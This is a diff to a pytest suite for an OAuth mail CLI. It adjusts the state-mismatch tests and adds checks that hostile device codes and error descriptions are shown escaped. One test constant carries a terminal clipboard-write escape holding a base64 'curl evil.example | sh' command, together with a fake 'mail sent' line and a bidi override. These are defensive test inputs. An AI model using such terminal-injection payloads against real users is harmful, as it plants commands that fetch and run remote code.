@@ -17,7 +17,7 @@ from collections.abc import Iterable, Iterator
 from pathlib import Path
 
 import pytest
-from oauth_server import AuthorizationServer, XOAuthSMTPServer, play_browser
+from oauth_server import AuthorizationServer, Hostile, XOAuthSMTPServer, play_browser
 from smtp_servers import TestCerts
 
 import crm_mail_gui.cli
@@ -49,6 +49,12 @@ def _fresh_token_cache() -> Iterator[None]:
     oauth.clear_memory_cache()
     yield
     oauth.clear_memory_cache()
+
+
+@pytest.fixture(autouse=True)
+def _fast_polling(monkeypatch: pytest.MonkeyPatch) -> None:
+    """RFC 8628's 5 s floor, lowered so that the server's 1 s interval is what polling uses."""
+    monkeypatch.setattr(oauth, "MIN_POLL_INTERVAL", 0.1)
 
 
 @pytest.fixture(autouse=True)
@@ -430,42 +436,46 @@ def _get(url: str) -> int:
         return error.code
 
 
-def test_forged_state_from_a_fake_browser_is_rejected(
+def test_forged_state_from_a_fake_browser_is_ignored_until_the_deadline(
     auth_server: AuthorizationServer, client: oauth.Client
 ) -> None:
+    """A wrong state neither aborts the sign-in nor is redeemed: it is ignored (issue 11.5)."""
     answers: list[int] = []
 
     def forging_browser(auth_url: str) -> None:
         answers.append(_get(_redirect_with(auth_url, {"code": "x", "state": "forged"})))
 
+    started = time.monotonic()
     with pytest.raises(oauth.OAuthError) as caught:
-        oauth.sign_in(client, forging_browser, timeout=5)
+        oauth.sign_in(client, forging_browser, timeout=0.5)
+    assert time.monotonic() - started >= 0.5  # it kept waiting for the real redirect
     assert caught.value.kind == "state_mismatch"
     assert "state" in caught.value.message("en") and "state" in caught.value.message("ja")
-    assert answers == [200]
+    assert "0.5" in caught.value.message("en")
+    assert answers == [400]
     assert "authorization_code" not in grants(auth_server)
     assert auth_server.token_requests == []
 
 
-def test_wrong_state_from_the_authorization_server_is_rejected(
+def test_wrong_state_from_the_authorization_server_is_ignored(
     auth_server: AuthorizationServer, client: oauth.Client, browser: Browser
 ) -> None:
     """The real server redirects with a real code but another state: the code is not redeemed."""
     auth_server.state_override_next = "forged"
     with pytest.raises(oauth.OAuthError) as caught:
-        oauth.sign_in(client, browser, timeout=5)
+        oauth.sign_in(client, browser, timeout=0.5)
     assert caught.value.kind == "state_mismatch"
     assert "state=forged" in browser.redirects[0] and "code=" in browser.redirects[0]
     assert "authorization_code" not in grants(auth_server)
     assert not oauth.is_signed_in(client, USER)
 
 
-def test_missing_state_is_rejected(auth_server: AuthorizationServer, client: oauth.Client) -> None:
+def test_missing_state_is_ignored(auth_server: AuthorizationServer, client: oauth.Client) -> None:
     def browser_without_state(auth_url: str) -> None:
         _get(_redirect_with(auth_url, {"code": "x"}))
 
     with pytest.raises(oauth.OAuthError, match="state_mismatch"):
-        oauth.sign_in(client, browser_without_state, timeout=5)
+        oauth.sign_in(client, browser_without_state, timeout=0.5)
     assert auth_server.token_requests == []
 
 
@@ -877,3 +887,63 @@ def test_cli_device_code_signin(
     assert code == 0, cli.err
     assert auth_server.issued_user_codes[0] in cli.err
     assert len(xoauth_server.messages) == 1
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the terminal's clipboard
+HOSTILE_TEXT = f"{OSC52}\x1b[2J\rFAKE: Test Mail Sent.\u202e"
+
+
+def assert_terminal_safe(*texts: str) -> None:
+    """No escape sequence, bare CR or bidi override reached the terminal or the log."""
+    for text in texts:
+        for char in ("\x1b", "\x07", "\r", "\u202e", "\x9b"):
+            assert char not in text, f"{char!r} reached the output: {text!r}"
+
+
+def test_cli_signin_shows_a_hostile_device_code_escaped(
+    cli: Cli,
+    auth_server: AuthorizationServer,
+    xoauth_server: XOAuthSMTPServer,
+    certs: TestCerts,
+    log_records: LogRecords,
+) -> None:
+    """Issue 11.4: the user code the server sends is printed escaped, never as escapes."""
+    server = f"ssl://127.0.0.1:{xoauth_server.port}"
+    assert cli(*set_ca(server, certs)) == 0
+    fields = {"user_code": f"AB{HOSTILE_TEXT}CD", "message": HOSTILE_TEXT}
+    auth_server.hostile = Hostile(endpoint="devicecode", fields=fields)
+
+    def approve_when_issued() -> None:
+        deadline = time.monotonic() + 5
+        while not auth_server.issued_user_codes and time.monotonic() < deadline:
+            time.sleep(0.02)
+        auth_server.approve_device(auth_server.issued_user_codes[0])
+
+    approver = threading.Thread(target=approve_when_issued)
+    approver.start()
+    args = ["--provider", "microsoft", "--client-id", CLIENT_ID, "--authority"]
+    code = cli("signin", "--device-code", *args, auth_server.base_url, "--user", USER)
+    approver.join()
+    assert code == 0, cli.err
+    assert "\\x1b]52;c;" in cli.err  # shown, escaped
+    assert_terminal_safe(cli.out, cli.err, *log_records.lines, *log_files())
+
+
+def test_cli_signin_prints_a_hostile_error_description_escaped(
+    cli: Cli,
+    auth_server: AuthorizationServer,
+    xoauth_server: XOAuthSMTPServer,
+    certs: TestCerts,
+    monkeypatch: pytest.MonkeyPatch,
+    log_records: LogRecords,
+) -> None:
+    monkeypatch.setattr(crm_mail_gui.cli, "open_browser", Browser(certs.ca_file))
+    server = f"ssl://127.0.0.1:{xoauth_server.port}"
+    assert cli(*set_ca(server, certs)) == 0
+    answer = {"error": "invalid_client", "error_description": HOSTILE_TEXT}
+    auth_server.hostile = Hostile(value=answer, status=401)
+    args = ["--provider", "microsoft", "--client-id", CLIENT_ID, "--authority"]
+    code = cli("signin", *args, auth_server.base_url, "--user", USER, "--from", USER)
+    assert code == 4
+    assert "\\x1b]52;c;" in cli.err and "Traceback" not in cli.err
+    assert_terminal_safe(cli.out, cli.err, *log_records.lines, *log_files())
